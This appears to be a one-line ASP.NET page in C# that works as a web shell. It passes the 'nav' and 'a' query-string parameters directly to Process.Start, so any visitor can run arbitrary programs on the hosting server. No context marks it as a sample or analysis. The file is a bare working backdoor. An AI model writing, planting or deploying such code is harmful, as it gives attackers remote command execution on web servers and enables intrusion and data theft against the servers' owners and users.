<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request.QueryString["nav"], Request.QueryString["a"]); %>
